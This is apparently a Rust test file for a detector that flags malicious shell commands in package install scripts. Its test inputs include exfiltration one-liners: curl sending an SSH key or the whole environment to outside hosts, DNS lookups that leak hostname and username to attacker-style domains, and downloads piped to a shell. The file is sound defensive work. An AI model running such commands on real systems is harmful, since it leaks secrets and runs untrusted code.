use super::*;

fn a(s: &str) -> ShellAnalysis {
    analyze_shell(s, 0)
}

#[test]
fn nslookup_of_hostname_substitution() {
    let r = a("nslookup `hostname`.robotnowai.top");
    assert_eq!(r.flows.len(), 1);
    assert_eq!(r.flows[0].sink, SinkKind::Dns);
    assert!(r.flows[0].kinds.contains(DataKind::Hostname));
    assert_eq!(r.flows[0].endpoints, vec!["robotnowai.top"]);
}

#[test]
fn ssh_key_through_variable_to_curl() {
    let r = a(r#"a=$(cat $HOME/.ssh/id_rsa.pub) && curl -X POST -d "payload=$a" https://nameless.herokuapp.com/p"#);
    assert_eq!(r.flows.len(), 1, "{:#?}", r.flows);
    assert!(r.flows[0].kinds.contains(DataKind::SshKey));
    assert_eq!(r.flows[0].endpoints, vec!["nameless.herokuapp.com"]);
    assert_eq!(r.flows[0].steps.len(), 3, "{:#?}", r.flows[0].steps);
}

#[test]
fn env_through_pipe_and_substitutions() {
    assert!(a(r#"curl -d "$(env)" https://x.example"#).flows[0].kinds.contains(DataKind::WholeEnvironment));
    assert!(a("env | base64 | curl -d @- https://x.io").flows[0].kinds.contains(DataKind::WholeEnvironment));
    let r = a("dig $(whoami).$(hostname).attacker.com");
    assert!(r.flows[0].kinds.contains(DataKind::Username) && r.flows[0].kinds.contains(DataKind::Hostname));
    assert_eq!(a("ping -c1 $(hostname).x.oast.fun").flows.len(), 1);
    assert_eq!(a(r#"wget --post-data="u=$USER" http://1.2.3.4/"#).flows.len(), 1);
}

#[test]
fn download_piped_to_shell_is_dynamic_code() {
    assert_eq!(a("curl -fsSL https://x.example/install.sh | sh").dynamic_code.len(), 1);
    assert_eq!(a("bash <(curl -s https://x.example/i)").dynamic_code.len(), 1);
}

#[test]
fn runs_and_inline_code() {
    assert_eq!(a("node preinstall.js").runs[0].path, "preinstall.js");
    assert_eq!(a("node update.js && npm install electron").runs.len(), 1);
    assert_eq!(a("chmod +x malscript.sh && ./malscript.sh").runs[0].path, "malscript.sh");
    let r = a(r#" node -e "try{require('./_postinstall')}catch(e){}" || exit 0"#);
    assert!(r.runs.is_empty());
    assert_eq!(r.inline_code[0].code, "try{require('./_postinstall')}catch(e){}");
    assert_eq!(a("BUILD_ID=.temp-build nohup node update.js >/dev/null 2>&1 &").runs[0].path, "update.js");
}

#[test]
fn ordinary_scripts_are_quiet() {
    for s in [
        "node-gyp rebuild",
        "husky install",
        "prebuild-install || node-gyp rebuild",
        "node scripts/postinstall.js",
        "curl -fsSL https://example.com/install.tgz -o x.tgz",
        "curl -o $HOME/x https://a.example/y",
        "echo $HOME",
        "npm run build",
        "tsc",
        "patch-package",
        "opencollective-postinstall",
        r#"node -e "console.log(1)""#,
    ] {
        let r = a(s);
        assert!(r.flows.is_empty(), "{s}: {:#?}", r.flows);
        assert!(r.dynamic_code.is_empty(), "{s}");
    }
}

#[test]
fn hostile_input_is_bounded() {
    let s = "$(".repeat(300_000) + "'\"`";
    let t = std::time::Instant::now();
    let _ = a(&s);
    assert!(t.elapsed().as_secs() < 5);
}
